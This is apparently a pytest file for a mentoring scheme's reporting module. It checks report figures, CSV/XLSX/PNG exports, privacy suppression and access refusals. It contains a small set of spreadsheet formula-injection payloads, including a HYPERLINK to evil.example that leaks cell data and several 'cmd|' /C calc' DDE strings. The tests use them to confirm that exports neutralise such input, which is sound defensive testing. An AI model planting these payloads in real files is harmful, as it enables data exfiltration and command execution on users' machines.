"""Reports for the project lead and the steering group, on a known cohort (tests/report_fixture.py,
where every figure below is worked out by hand): scheme health, the 6, 9 and 12-month reports,
the annual report; as Markdown, CSV, XLSX and PNG; in chat and from the CLI. Nobody else gets
any of it, and no diary entry, concern text or action text ever appears in a report."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import Engine
from sqlmodel import select

from conversations import report_files
from conversations.clock import Clock
from conversations.reports import (
    Report,
    ReportKind,
    Section,
    Table,
    build,
    chat_summary,
    to_markdown,
)
from storage import report_queries
from storage.db import transaction
from storage.models import Cohort, Person, Scheme, SchemeChange, SurveyResponse
from tests import report_fixture
from tests.conftest import NOW
from tests.report_fixture import SECRETS, Fixture

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def known(engine: Engine) -> Fixture:
    return report_fixture.build(engine)


def _report(db: Engine, fx: Fixture, kind: ReportKind, who: str = "lee") -> Report:
    with transaction(db) as s:
        return build(s, fx.people[who], fx.cohort_id, kind, Clock.fixed(NOW).now())


def _table(report: Report, key: str) -> Table:
    return next(t for t in report.tables if t.key == key)


def _summary(report: Report, title_start: str) -> tuple[str, ...]:
    return next(s.summary for s in report.sections if s.title.startswith(title_start))


D = date.fromisoformat
PAIRS_NOW = (
    ("Asha Patel", "Tess Grant", "active", "", D("2025-11-23"), None, "both", 5,
     D("2026-11-10"), 13, None, 1, 0, 0),
    ("Ben Hughes", "Tess Grant", "at risk",
     "no meeting for over 6 weeks; open concern; contract unsigned after the deadline",
     D("2025-11-23"), None, "one side", 1, D("2026-08-20"), 95, None, 1, 1, 1),
    ("Cara Doyle", "Tess Grant", "ended early", "", D("2025-11-23"), D("2026-03-10"), "both", 1,
     D("2026-01-15"), None, None, 0, 0, 1),
    ("Dan Ellis", "Umar Khan", "completed", "", D("2025-11-23"), D("2026-11-20"), "both", 5,
     D("2026-08-04"), None, None, 0, 0, 0),
    ("Eva Moss", "Vic Lowe", "active", "", D("2026-10-01"), None, "neither", 0, None, None,
     D("2026-11-30"), 0, 0, 0),
)  # fmt: skip
RESPONSES_NOW = (
    ("December check-in", "checkin", "both", D("2025-12-11"), D("2025-12-15"), "closed", 8, 6, "75%"),
    ("First evaluation", "evaluation", "both", D("2026-01-05"), D("2026-01-12"), "closed", 8, 5, "63%"),
    ("Feedback on your mentor (spring)", "evaluation", "mentee", D("2026-02-01"), D("2026-02-28"),
     "closed", 5, 4, "80%"),
    ("Feedback on your mentor (autumn)", "evaluation", "mentee", D("2026-10-19"), D("2026-10-30"),
     "closed", 5, 2, "40%"),
    ("November check-in", "checkin", "both", D("2026-11-20"), D("2026-11-27"), "open", 8, 1, "13%"),
)  # fmt: skip
CONCERNS_NOW = (
    ("partner not responding", 0, 1, 0, 1, 1),
    ("relationship breakdown / no-fault exit", 0, 0, 1, 1, 0),
    ("safety (patient safety, safeguarding, fitness to practise)", 1, 0, 0, 1, 1),
)


# ----------------------------------------------------------------------------- the figures


def test_scheme_health_has_every_figure(engine: Engine, known: Fixture) -> None:
    report = _report(engine, known, ReportKind.HEALTH)
    assert report.title == "Scheme health: Cohort 2025-26, Mon 23 Nov 2026"
    assert _table(report, "pairs").rows == PAIRS_NOW
    assert _table(report, "contracts").rows == (("both", 1), ("one side", 1), ("neither", 1))
    assert _table(report, "responses").rows == RESPONSES_NOW
    assert _table(report, "concerns").rows == CONCERNS_NOW
    assert chat_summary(report) == (
        "*Scheme health: Cohort 2025-26, Mon 23 Nov 2026*\n\n"
        "*Pairs*\n"
        "• 5 pairs: 2 active, 1 at risk, 1 ended early, 1 completed.\n"
        "• At risk: Ben Hughes & Tess Grant (no meeting for over 6 weeks; open concern; contract "
        "unsigned after the deadline).\n\n"
        "*Contracts*\n"
        "• Contracts of the 3 running pairs: 1 signed by both, 1 by one side only, 1 by neither.\n\n"
        "*Meetings and actions*\n"
        "• 12 meetings held or confirmed so far; the 3 running pairs average 2.0 each.\n"
        "• Not met yet: Eva Moss & Vic Lowe.\n"
        "• Longest since a meeting: Ben Hughes & Tess Grant, 95 days.\n"
        "• Actions: 2 open, 1 overdue.\n\n"
        "*Check-ins and evaluations*\n"
        "• December check-in, closed Mon 15 Dec 2025: 6 of 8 answered (75%).\n"
        "• First evaluation, closed Mon 12 Jan: 5 of 8 answered (63%).\n"
        "• Feedback on your mentor (spring), closed Sat 28 Feb: 4 of 5 answered (80%).\n"
        "• Feedback on your mentor (autumn), closed Fri 30 Oct: 2 of 5 answered (40%).\n"
        "• November check-in, open, closes Fri 27 Nov: 1 of 8 answered (13%).\n\n"
        "*Concerns*\n"
        "• 3 open concerns (2 not yet acknowledged): partner not responding 1; relationship "
        "breakdown / no-fault exit 1; safety (patient safety, safeguarding, fitness to practise) 1."
    )  # fmt: skip
    rates, cadence = report.charts
    assert rates.values == (75, 63, 80, 40, 13)  # as in the table: halves rounded up
    assert cadence.labels[0] == "Asha Patel & Tess Grant"
    assert [len(d) for d in cadence.dates] == [5, 1, 1, 5, 0]


def test_the_six_month_report_is_as_of_its_point_with_its_period(
    engine: Engine, known: Fixture
) -> None:
    report = _report(engine, known, ReportKind.SIX_MONTHS)
    assert report.title == "6-month report: Cohort 2025-26, as of Sat 23 May 2026"
    assert (report.period, report.so_far) == ((D("2025-11-23"), D("2026-05-22")), False)
    assert _summary(report, "In this period") == (
        "5 meetings held or confirmed, by 3 pairs.",
        "Pairs: 4 started, 1 ended early, 0 completed.",
        "Actions: 0 agreed, 0 done.",
        "1 concern raised (relationship breakdown / no-fault exit 1).",
        "1 change made in response to feedback.",
    )
    assert _table(report, "period").rows == (
        ("Meetings held or confirmed", 5), ("Pairs that met", 3), ("Pairs started", 4),
        ("Pairs ended early", 1), ("Pairs completed", 0), ("Actions agreed", 0),
        ("Actions done", 0), ("Concerns raised", 1), ("Urgent concerns raised", 0),
        ("Changes made in response to feedback", 1),
    )  # fmt: skip
    assert _table(report, "pairs").rows == (
        ("Asha Patel", "Tess Grant", "active", "", D("2025-11-23"), None, "both", 1,
         D("2026-04-28"), 25, None, 0, 0, 0),
        ("Ben Hughes", "Tess Grant", "at risk",
         "not met in over 6 weeks; contract unsigned after the deadline", D("2025-11-23"), None,
         "one side", 0, None, None, None, 0, 0, 0),
        ("Cara Doyle", "Tess Grant", "ended early", "", D("2025-11-23"), D("2026-03-10"), "both",
         1, D("2026-01-15"), None, None, 0, 0, 1),
        ("Dan Ellis", "Umar Khan", "active", "", D("2025-11-23"), None, "both", 3,
         D("2026-05-05"), 18, None, 0, 0, 0),
    )  # fmt: skip
    assert _table(report, "contracts").rows == (("both", 2), ("one side", 1), ("neither", 0))
    assert _summary(report, "Meetings") == (
        "5 meetings held or confirmed so far; the 3 running pairs average 1.3 each.",
        "Not met yet: Ben Hughes & Tess Grant.",
        "Longest since a meeting: Asha Patel & Tess Grant, 25 days.",
        "Actions: 0 open, 0 overdue.",
    )
    assert _table(report, "responses").rows == RESPONSES_NOW[:3]
    assert _table(report, "concerns").rows == (
        ("relationship breakdown / no-fault exit", 0, 0, 1, 1, 0),
    )
    assert _table(report, "changes").rows == (
        (D("2026-02-15"), "Moved the training day online after feedback", "Lee Lead"),
    )


def test_the_nine_month_report(engine: Engine, known: Fixture) -> None:
    report = _report(engine, known, ReportKind.NINE_MONTHS)
    assert report.title == "9-month report: Cohort 2025-26, as of Sun 23 Aug 2026"
    assert report.period == (D("2026-05-23"), D("2026-08-22"))
    assert _summary(report, "In this period") == (
        "4 meetings held or confirmed, by 3 pairs.",
        "Pairs: 0 started, 0 ended early, 0 completed.",
        "Actions: 1 agreed, 0 done.",
        "No concerns raised.",
    )
    assert [(r[0], r[2], r[3], r[7], r[9], r[11], r[12]) for r in _table(report, "pairs").rows] == [
        ("Asha Patel", "active", "", 2, 24, 0, 0),
        ("Ben Hughes", "at risk", "contract unsigned after the deadline", 1, 3, 1, 0),
        ("Cara Doyle", "ended early", "", 1, None, 0, 0),
        ("Dan Ellis", "active", "", 5, 19, 0, 0),
    ]
    assert _summary(report, "Meetings") == (
        "9 meetings held or confirmed so far; the 3 running pairs average 2.7 each.",
        "Longest since a meeting: Asha Patel & Tess Grant, 24 days.",
        "Actions: 1 open, 0 overdue.",
    )
    assert _table(report, "responses").rows == RESPONSES_NOW[:3]


def test_the_twelve_month_report(engine: Engine, known: Fixture) -> None:
    report = _report(engine, known, ReportKind.TWELVE_MONTHS)
    assert report.title == "12-month report: Cohort 2025-26, as of Mon 23 Nov 2026"
    assert report.period == (D("2026-08-23"), D("2026-11-22"))
    assert _summary(report, "In this period") == (
        "3 meetings held or confirmed, by 1 pair.",
        "Pairs: 1 started, 0 ended early, 1 completed.",
        "Actions: 2 agreed, 1 done.",
        "2 concerns raised (partner not responding 1; safety (patient safety, safeguarding, "
        "fitness to practise) 1), 1 of them urgent.",
    )
    assert _table(report, "concerns-raised").rows == (
        ("partner not responding", 1),
        ("safety (patient safety, safeguarding, fitness to practise)", 1),
    )
    assert [line for line in chat_summary(report).splitlines() if line.startswith("*")] == [
        "*12-month report: Cohort 2025-26, as of Mon 23 Nov 2026*",
        "*In this period (Sun 23 Aug to Sun 22 Nov)*",
        "*Pairs*",
        "*Check-ins and evaluations*",
        "*Concerns*",
    ]
    # As of midnight on the 23rd: the same figures as the health report at 10:00 that day.
    assert _table(report, "pairs").rows == PAIRS_NOW
    assert _table(report, "responses").rows == RESPONSES_NOW
    assert _table(report, "concerns").rows == CONCERNS_NOW


def test_the_annual_report_follows_the_hee_quality_standards(
    engine: Engine, known: Fixture
) -> None:
    report = _report(engine, known, ReportKind.ANNUAL)
    assert report.title == "Annual report: Cohort 2025-26, as of Mon 23 Nov 2026"
    assert report.period == (D("2025-11-23"), D("2026-11-22"))
    assert _table(report, "outcomes").rows == (
        ("Completed", 1), ("Ended early", 1), ("Ended early: no-fault exit", 1),
        ("Still running", 3), ("Urgent concerns raised", 1),
    )  # fmt: skip
    assert _summary(report, "Contracts completed") == (
        "Contracts completed: 1; ended early: 1 (no-fault exit: 1); still running: 3.",
        "Significant events: 1 urgent concern raised (patient safety, safeguarding or fitness "
        "to practise).",
    )
    assert _table(report, "evaluation").rows == (
        ("First evaluation", "Progress towards your objectives", "mentees", 4, 3.5, ""),
        ("First evaluation", "How often do you meet?", "mentees", 4, None,
         "Every 4 weeks or more often: 1; Every 5-6 weeks: 1; Less often: 2"),
        ("First evaluation", "A short reflective account", "mentees", 2, None, ""),
        ("First evaluation", "Progress towards your objectives", "mentors", 1, 4.0, ""),
        ("First evaluation", "How often do you meet?", "mentors", 1, None,
         "Every 4 weeks or more often: 1; Every 5-6 weeks: 0; Less often: 0"),
        ("First evaluation", "A short reflective account", "mentors", 1, None, ""),
    )  # fmt: skip
    assert _summary(report, "Evaluation") == (
        "Progress towards your objectives (mentees): average 3.5 (4 answers).",
        "How often do you meet? (mentees): Every 4 weeks or more often: 1; Every 5-6 weeks: 1; "
        "Less often: 2.",
        "Progress towards your objectives (mentors): average 4.0 (1 answer).",
        "How often do you meet? (mentors): Every 4 weeks or more often: 1; Every 5-6 weeks: 0; "
        "Less often: 0.",
        "3 written answers not shown: this scheme keeps written answers out of reports.",
        "1 follow-up requested from the project team.",
    )
    assert "written-answers" not in {t.key for t in report.tables}
    # Three answers about Tess in the spring: an aggregate. Two in the autumn, one about Umar:
    # too few to show, so that no single answer can be traced.
    assert _table(report, "mentor-feedback").rows == (
        ("Tess Grant", "Feedback on your mentor (spring)", 3,
         "How well does your mentor support you?", 3, 3.7, ""),
        ("Tess Grant", "Feedback on your mentor (spring)", 3, "Would you recommend your mentor?",
         3, None, "Yes: 2; No: 1"),
        ("Tess Grant", "Feedback on your mentor (spring)", 3, "Anything else about your mentor?",
         2, None, ""),
        ("Umar Khan", "Feedback on your mentor (spring)", None,
         "too few answers to show (fewer than 3)", None, None, ""),
        ("Tess Grant", "Feedback on your mentor (autumn)", None,
         "too few answers to show (fewer than 3)", None, None, ""),
    )  # fmt: skip
    assert _table(report, "changes").rows == (
        (D("2026-02-15"), "Moved the training day online after feedback", "Lee Lead"),
    )
    markdown = to_markdown(report)
    for text in ("EVALTEXT", "MENTORTEXT", "yes please call me"):
        assert text not in markdown
    chat = chat_summary(report)
    assert [line for line in chat.splitlines() if line.startswith("*")] == [
        "*Annual report: Cohort 2025-26, as of Mon 23 Nov 2026*",
        "*Contracts completed and ended early*",
        "*Evaluation feedback*",
        "*Feedback on individual mentors*",
        "*Changes made in response to feedback*",
    ]
    assert (
        "• Tess Grant, Feedback on your mentor (spring), 3 answers: “How well does your mentor "
        "support you?” 3.7 on average; “Would you recommend your mentor?” Yes: 2; No: 1.\n"
        "• Umar Khan, Feedback on your mentor (spring): too few answers to show (fewer than 3).\n"
        "• Tess Grant, Feedback on your mentor (autumn): too few answers to show (fewer than 3).\n"
    ) in chat


def test_written_answers_show_only_where_the_scheme_allows_and_never_about_a_mentor(
    engine: Engine, known: Fixture
) -> None:
    with transaction(engine) as s:
        scheme = s.exec(select(Scheme).where(Scheme.slug == "rep")).one()
        scheme.settings = {**scheme.settings, "reports": {"show_free_text": True}}
        s.add(scheme)
    report = _report(engine, known, ReportKind.ANNUAL)
    assert _table(report, "written-answers").rows == (
        ("First evaluation", "A short reflective account", "mentees", "EVALTEXT-ONE"),
        ("First evaluation", "A short reflective account", "mentees", "EVALTEXT-TWO"),
        ("First evaluation", "A short reflective account", "mentors", "EVALTEXT-MENTOR"),
    )
    assert "not shown" not in " ".join(_summary(report, "Evaluation"))
    everything = to_markdown(report)
    assert "EVALTEXT-ONE" in everything
    assert "MENTORTEXT" not in everything
    assert "yes please call me" not in everything  # a follow-up request is not feedback


def test_the_mentor_threshold_is_a_scheme_setting(engine: Engine, known: Fixture) -> None:
    with transaction(engine) as s:
        scheme = s.exec(select(Scheme).where(Scheme.slug == "rep")).one()
        scheme.settings = {**scheme.settings, "reports": {"mentor_feedback_min_answers": 2}}
        s.add(scheme)
    rows = _table(_report(engine, known, ReportKind.ANNUAL), "mentor-feedback").rows
    assert [(r[0], str(r[1]).split()[-1], r[2]) for r in rows if r[3] != "Anything else about your mentor?"] == [
        ("Tess Grant", "(spring)", 3), ("Tess Grant", "(spring)", 3),
        ("Umar Khan", "(spring)", None),
        ("Tess Grant", "(autumn)", 2), ("Tess Grant", "(autumn)", 2),
    ]  # fmt: skip


def test_a_mentor_on_the_steering_group_never_sees_feedback_about_themselves(
    engine: Engine, known: Fixture
) -> None:
    report = _report(engine, known, ReportKind.ANNUAL, who="umar")
    rows = _table(report, "mentor-feedback").rows
    assert ("Umar Khan", "Feedback on your mentor (spring)", None,
            "not shown to you (about you)", None, None, "") in rows  # fmt: skip
    assert any(r[0] == "Tess Grant" and r[5] == 3.7 for r in rows)
    assert "Umar Khan, Feedback on your mentor (spring): not shown to you, as it is about you." in (
        _summary(report, "Feedback on individual mentors")
    )


# ----------------------------------------------------------------------------- files


def test_csv_files_hold_the_same_tables(engine: Engine, known: Fixture) -> None:
    report = _report(engine, known, ReportKind.HEALTH)
    files = report_files.csv_files(report)
    assert [f.filename for f in files] == [
        f"2025-26-health-2026-11-23-{key}.csv"
        for key in ("pairs", "contracts", "responses", "concerns")
    ]
    pairs = list(csv.reader(io.StringIO(files[0].data.decode("utf-8-sig"))))
    assert pairs[0][:4] == ["Mentee", "Mentor", "Status", "Why at risk"]
    assert pairs[2] == [
        "Ben Hughes", "Tess Grant", "at risk",
        "no meeting for over 6 weeks; open concern; contract unsigned after the deadline",
        "2025-11-23", "", "one side", "1", "2026-08-20", "95", "", "1", "1", "1",
    ]  # fmt: skip
    responses = list(csv.reader(io.StringIO(files[2].data.decode("utf-8-sig"))))
    assert [r[0] for r in responses[1:]] == [r[0] for r in RESPONSES_NOW]
    assert [r[-1] for r in responses[1:]] == ["75%", "63%", "80%", "40%", "13%"]
    assert len(pairs) == 6


def test_the_workbook_has_a_sheet_per_table_with_bold_headers(
    engine: Engine, known: Fixture
) -> None:
    report = _report(engine, known, ReportKind.ANNUAL)
    file = report_files.xlsx_file(report)
    assert file.filename == "2025-26-annual-2026-11-23.xlsx"
    book = load_workbook(io.BytesIO(file.data))
    assert book.sheetnames == [
        "Summary", "Outcomes", "Evaluation", "Mentor feedback", "Changes", "Period",
        "Concerns raised", "Pairs", "Contracts", "Responses", "Concerns",
    ]  # fmt: skip
    assert book["Summary"]["A1"].value == report.title
    pairs = book["Pairs"]
    assert [c.value for c in pairs[1]][:3] == ["Mentee", "Mentor", "Status"]
    assert all(c.font.bold for c in pairs[1])
    assert not pairs["B2"].font.bold
    assert pairs.column_dimensions["D"].width == 60  # "Why at risk" is long: capped
    assert pairs.column_dimensions["H"].width == 10
    rows = [[c.value for c in row] for row in pairs.iter_rows(min_row=2)]
    assert rows[1][:3] == ["Ben Hughes", "Tess Grant", "at risk"]
    assert str(rows[1][4]) == "2025-11-23 00:00:00"  # a real date, not text
    assert rows[1][7] == 1
    assert str(rows[1][8]) == "2026-08-20 00:00:00"
    assert rows[1][9:] == [95, None, 1, 1, 1]
    mentors = [[c.value for c in row] for row in book["Mentor feedback"].iter_rows()]
    assert mentors[1] == [
        "Tess Grant", "Feedback on your mentor (spring)", 3,
        "How well does your mentor support you?", 3, 3.7, None,
    ]  # fmt: skip


# People's text that a spreadsheet would run as a formula (OWASP's CSV-injection examples).
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "answer": "+cmd|' /C calc'!A0",
    "change": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cohort": "-2+3+cmd|' /C calc'!A0",
}


def _hostile(db: Engine, fx: Fixture) -> Report:
    """The known cohort after people typed formulas: a mentee's name, a written answer, a change
    recorded by the lead, and the cohort's name."""
    with transaction(db) as s:
        scheme = s.exec(select(Scheme).where(Scheme.slug == "rep")).one()
        scheme.settings = {**scheme.settings, "reports": {"show_free_text": True}}
        s.add(scheme)
        asha = s.get(Person, fx.people["asha"])
        assert asha is not None
        asha.display_name = HOSTILE["name"]
        s.add(asha)
        for response in s.exec(select(SurveyResponse)).all():
            if "EVALTEXT-ONE" in str(response.answers):
                response.answers = {
                    k: (HOSTILE["answer"] if v == "EVALTEXT-ONE" else v)
                    for k, v in response.answers.items()
                }
                s.add(response)
        for change in s.exec(select(SchemeChange)).all():
            change.text = HOSTILE["change"]
            s.add(change)
        cohort = s.get(Cohort, fx.cohort_id)
        assert cohort is not None
        cohort.name = HOSTILE["cohort"]
        s.add(cohort)
    return _report(db, fx, ReportKind.ANNUAL)


def test_people_s_text_is_never_a_formula_in_the_workbook(engine: Engine, known: Fixture) -> None:
    report = _hostile(engine, known)
    book = load_workbook(io.BytesIO(report_files.xlsx_file(report).data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HOSTILE["name"] in texts  # shown as the text it is, in a string cell
    assert HOSTILE["answer"] in texts
    assert HOSTILE["change"] in texts
    assert any(HOSTILE["cohort"] in t for t in texts)
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    pairs = [[c.value for c in row] for row in book["Pairs"].iter_rows(min_row=2)]
    assert pairs[0][0] == HOSTILE["name"]
    assert pairs[0][7] == 5  # a number we computed stays a number


def test_people_s_text_is_quoted_in_csv_files(engine: Engine, known: Fixture) -> None:
    report = _hostile(engine, known)
    cells = [
        cell
        for file in report_files.csv_files(report)
        for row in csv.reader(io.StringIO(file.data.decode("utf-8-sig")))
        for cell in row
    ]
    assert "'" + HOSTILE["name"] in cells
    assert "'" + HOSTILE["answer"] in cells
    assert "'" + HOSTILE["change"] in cells
    assert not [c for c in cells if c.startswith(report_files.FORMULA_STARTS)]


def test_a_negative_number_we_computed_stays_a_number() -> None:
    table = Table("change", "Change", ("Measure", "Change"), (("Pairs", -3), ("-ve", 2.5)))
    report = Report(
        kind=ReportKind.HEALTH,
        title="Scheme health",
        scheme="S",
        cohort="C",
        cohort_slug="c",
        as_of=date(2026, 11, 23),
        period=None,
        so_far=False,
        sections=(Section("Figures", (), (table,)),),
        charts=(),
    )
    rows = list(csv.reader(io.StringIO(report_files.csv_files(report)[0].data.decode("utf-8-sig"))))
    assert rows[1:] == [["Pairs", "-3"], ["'-ve", "2.5"]]
    sheet = load_workbook(io.BytesIO(report_files.xlsx_file(report).data))["Change"]
    assert [(c.value, c.data_type) for c in sheet[2]] == [("Pairs", "s"), (-3, "n")]
    assert [(c.value, c.data_type) for c in sheet[3]] == [("-ve", "s"), (2.5, "n")]


def test_charts_are_valid_png_images(engine: Engine, known: Fixture) -> None:
    files = report_files.png_files(_report(engine, known, ReportKind.HEALTH))
    assert [f.filename for f in files] == [
        "2025-26-health-2026-11-23-response-rates.png",
        "2025-26-health-2026-11-23-meeting-cadence.png",
    ]
    for file in files:
        assert file.data.startswith(PNG_SIGNATURE)
        with Image.open(io.BytesIO(file.data)) as image:
            image.load()
            assert image.format == "PNG"
            width, height = image.size
            assert 500 <= width <= 1500
            assert 200 <= height <= 900


def _every_output(db: Engine, fx: Fixture, who: str = "lee") -> str:
    """Every report, every format, as one text (XLSX cells read back; chart data as text)."""
    texts: list[str] = []
    for kind in ReportKind:
        report = _report(db, fx, kind, who)
        texts.append(to_markdown(report))
        texts.append(chat_summary(report))
        texts += [f.data.decode("utf-8-sig") for f in report_files.csv_files(report)]
        book = load_workbook(io.BytesIO(report_files.xlsx_file(report).data))
        texts += [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row]
        texts += [repr(chart) for chart in report.charts]
    return "\n".join(texts)


def test_no_diary_entry_concern_or_action_text_appears_in_any_report(
    engine: Engine, known: Fixture
) -> None:
    everything = _every_output(engine, known)
    assert "Asha Patel" in everything  # the reports did render
    for secret in SECRETS:
        assert secret not in everything


def test_the_report_queries_never_read_the_diary() -> None:
    source = Path(report_queries.__file__).read_text(encoding="utf-8")
    assert "DiaryEntry" not in source.replace("``DiaryEntry``", "")
    assert "diary_entry" not in source


# ----------------------------------------------------------------------------- refusals


@pytest.mark.parametrize("who", ["asha", "tess", "vic"])
def test_the_queries_refuse_mentees_and_mentors(engine: Engine, known: Fixture, who: str) -> None:
    moment = Clock.fixed(NOW).now()
    with transaction(engine) as s:
        person = known.people[who]
        assert report_queries.cohorts_steered(s, person) == []
        for read in (
            lambda: report_queries.health(s, person, known.cohort_id, moment),
            lambda: report_queries.period(s, person, known.cohort_id, moment, moment),
            lambda: report_queries.feedback(s, person, known.cohort_id, moment, moment),
            lambda: report_queries.changes(s, person, known.cohort_id, moment, moment),
            lambda: report_queries.record_change(s, person, known.cohort_id, "x", moment),
            lambda: report_queries.find_cohort(s, person),
            lambda: build(s, person, known.cohort_id, ReportKind.ANNUAL, moment),
        ):
            with pytest.raises(report_queries.NotAllowed):
                read()


def test_a_meeting_timeline_shows_weeks_not_years() -> None:
    """One meeting and today, a few days apart: the chart's axis spans about a month (it
    spanned 2025 to 2029 when matplotlib chose), and every meeting and today stay on it."""
    from conversations.reports import Chart

    chart = Chart(
        "meeting-cadence", "Meetings per pair", "timeline", ("Priya & Tom", "Nadia & Owen"),
        dates=((date(2026, 12, 3),), ()), as_of=date(2026, 12, 28),
    )  # fmt: skip
    span = report_files.timeline_span(chart)
    assert span is not None
    first, last = span
    assert first <= date(2026, 11, 30)
    assert last >= date(2026, 12, 28)
    assert (last - first).days <= 45
    year = Chart(
        "meeting-cadence", "Meetings per pair", "timeline", ("A & B",),
        dates=((date(2026, 1, 5), date(2026, 11, 2)),), as_of=date(2026, 12, 1),
    )  # fmt: skip
    first, last = report_files.timeline_span(year) or (None, None)
    assert first is not None
    assert last is not None
    assert first <= date(2026, 1, 5)
    assert last >= date(2026, 12, 1)
    assert (last - first).days <= 366 + 40
    assert report_files.chart_png(chart) is not None
